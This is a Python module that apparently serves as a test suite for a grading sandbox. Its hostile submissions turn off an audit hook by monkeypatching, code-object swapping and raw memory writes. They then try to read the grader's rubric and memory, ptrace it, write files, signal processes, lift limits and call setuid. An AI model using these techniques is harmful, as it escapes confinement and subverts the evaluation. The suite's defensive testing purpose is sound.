"""What remains when the guard within the interpreter is off: the attacks against which only the system helps.

The guard is an audit hook, and code in the same process can remove it: here by its own names and by raw memory. In the
mode "none" files are then open to a submission, which is why official marks refuse that mode.
"""

from .submission import Hostile, steals

OFF = r'''
import sys


def guarded():
    try:
        open("/")
    except IsADirectoryError:
        return False
    except BaseException as error:
        return "graded" in str(error)


def by_names():
    """Let the hook take every path for a number, which it does not look at."""
    vars(sys.modules["confine"])["isinstance"] = lambda *things: True


def by_code():
    import gc
    for thing in gc.get_objects():
        if type(thing) is type(guarded) and thing.__module__ == "confine":
            thing.__code__ = (lambda *things: None).__code__ if not thing.__closure__ else empty(len(thing.__closure__))


def empty(count):
    names = ", ".join(f"v{n}" for n in range(count))
    code = f"def outer({names}):\n def inner(*things):\n  return None\n  ({names},)\n return inner"
    names = {}
    exec(code, names)
    return names["outer"](*range(count)).__code__


def words(address, count):
    class View:
        __array_interface__ = {"data": (address, False), "shape": (count,), "typestr": "<u8", "version": 3}
    return np.asarray(View())


def by_memory():
    """Find the list of hooks in the state of the interpreter, some way behind its pointer to sys.modules."""
    modules, lists, functions = id(sys.modules), id(list), id(type(guarded))
    things = [thing for module in list(sys.modules.values()) for thing in vars(module).values()]
    things += [part for thing in things if isinstance(thing, type) for part in vars(thing).values()]
    mapped = {(id(part) >> 20) + near for part in things for near in (-1, 0, 1)}
    for start in range(id(int) & ~0xFFF, id(int) + 2**22, 4096):
        for place in np.flatnonzero(words(start, 512) == modules):
            state = words(start + 8 * int(place), 60_000)
            for spot, pointer in enumerate(state[:2000].tolist()):
                if pointer % 8 == 0 and pointer >> 20 in mapped:
                    if words(pointer, 3)[1] == lists and words(pointer, 3)[2] == 1:
                        if words(int(words(int(words(pointer, 4)[3]), 1)[0]), 2)[1] == functions:
                            state[spot] = 0
                            if not guarded():
                                return
                            state[spot] = pointer


for way in (by_code, by_memory, by_names):
    if guarded():
        attempt(way)
WHY.append("the guard holds" if guarded() else "the guard is off")
'''


def freed(name: str, tries: str, code: str, **rest: object) -> Hostile:
    """An attack that switches the guard off first."""
    from textwrap import dedent

    return steals(name, tries, OFF + dedent(code), **rest)


FREED = [
    steals("unguarded_by_raw_memory", "clears the list of hooks in memory through numpy alone, and reads the rubric",
           OFF.replace("(by_code, by_memory, by_names)", "(by_memory,)")
           + 'look(attempt(lambda: open("@FILE@").read()))',
           falls=("none",)),
    freed("unguarded_reading", "switches the guard off and reads the rubric, folders and its parent's memory", '''
        import os

        look(attempt(lambda: open("@FILE@").read()))
        look(attempt(lambda: open("/proc/self/root@FILE@").read()))
        for place in ("@ROOT@", "@ROOT@/tests", "@FOLDER@", "/proc/@PID@/cwd", "/proc/@PID@/fd"):
            if {"pyproject.toml", "grading", "questions.py", "0"} & set(attempt(os.listdir, place) or []):
                WHY.append("LOOT: listed " + place)
        for name in ("mem", "environ", "maps"):
            if attempt(lambda: open(f"/proc/@PID@/{name}", "rb").read(10)):
                WHY.append("LOOT: " + name)
        ''', falls=("none",)),
    freed("unguarded_memory", "attaches to the grader and reads its memory by system calls", '''
        import ctypes

        library = attempt(ctypes.CDLL, None)
        held = ctypes.create_string_buffer(64)
        pair = (ctypes.c_void_p * 2)(ctypes.addressof(held), 64)
        away = (ctypes.c_void_p * 2)(@ADDRESS@, 64)
        if library.process_vm_readv(@PID@, pair, 1, away, 1, 0) > 0:
            WHY.append("LOOT: " + repr(held.raw))
        if library.ptrace(16, @PID@, 0, 0) == 0:
            library.ptrace(17, @PID@, 0, 0)
            WHY.append("LOOT: attached to the grader")
        '''),
    freed("unguarded_writing", "switches the guard off and writes files, links and shared memory", '''
        import ctypes
        import os

        for place in ("/tmp", "/dev/shm", "/var/tmp", "@FOLDER@", "."):
            path = os.path.join(place, "@MARK@")
            for make in (os.mkdir, lambda path: os.mkfifo(path), lambda path: os.symlink("@FILE@", path),
                         lambda path: open(path, "w").close()):
                attempt(make, path)
        attempt(lambda: ctypes.CDLL(None).shmget(0x@KEY@, 4096, 0o1666))
        attempt(lambda: ctypes.CDLL(None).mq_open(b"/@MARK@", os.O_CREAT | os.O_RDWR, 0o600, None))
        ''', falls=("none",)),
    freed("unguarded_network", "switches the guard off and asks listeners of the test's own", '''
        import socket

        for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @TCP@)),
                                      (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @UDP@)),
                                      (socket.AF_UNIX, socket.SOCK_STREAM, "@UNIX@"),
                                      (socket.AF_UNIX, socket.SOCK_STREAM, "\\0@ABSTRACT@")):
            def talk():
                with socket.socket(family, kind) as one:
                    one.settimeout(1)
                    one.connect(address)
                    one.send(b"@MARK@")
            attempt(talk)
        ''', falls=("none",)),
    freed("unguarded_processes", "switches the guard off, forks, starts threads and programs, signals the grader", '''
        import ctypes
        import os
        import resource
        import signal
        import threading
        import time

        library = attempt(ctypes.CDLL, None)
        for number in (@PID@, os.getppid()):
            if number > 1:
                attempt(os.kill, number, signal.SIGURG)
                attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(number), signal.SIGURG))
                attempt(lambda: library.tgkill(number, number, signal.SIGURG))
                attempt(lambda: library.sigqueue(number, signal.SIGURG, None))
                attempt(lambda: resource.prlimit(number, resource.RLIMIT_CORE, (4321, @CORE@)))
        for pid in range(max(2, @PID@ - 99), @PID@ + 99):
            try:
                os.kill(pid, 0)
            except OSError:
                continue
            if pid != os.getpid():
                WHY.append("LOOT: may signal another process")
        for _ in range(20):
            if attempt(os.fork) == 0:
                os.setsid()
                time.sleep(30)
                os._exit(0)
        attempt(threading.Thread(target=time.sleep, args=(30,), daemon=True).start)
        attempt(os.posix_spawn, "/bin/sleep", ["sleep", "30"], {})
        ''', falls=("none",)),
    freed("unguarded_program", "switches the guard off and becomes a program that prints the rubric into the pipes", '''
        import os

        for number in range(3, 64):
            attempt(os.set_inheritable, number, True)
        attempt(os.execv, "/bin/cat", ["cat", "@FILE@"])
        '''),
    freed("unguarded_limits", "switches the guard off, lifts limits, takes more memory and a namespace", '''
        import ctypes
        import os
        import resource

        for name in ("RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NOFILE"):
            attempt(resource.setrlimit, getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
        library = attempt(ctypes.CDLL, None)
        if library:
            library.unshare(0x10000000 | 0x00020000)
            library.mount(b"proc", b"/tmp", b"proc", 0, None)
            library.setuid(0)
        if attempt(os.fork) == 0:
            os._exit(0)
        look(attempt(lambda: open("@FILE@").read()))
        look(attempt(lambda: open("/tmp/@PID@/mem", "rb").read(10)))
        kept = []
        while len(kept) < 3000 and attempt(lambda: kept.append(bytearray(b"1") * 2**20)) is None and len(WHY) < 40:
            pass
        if len(kept) == 3000:
            WHY.append("LOOT: three GB of memory")
        del kept
        ''', falls=("none",)),
]
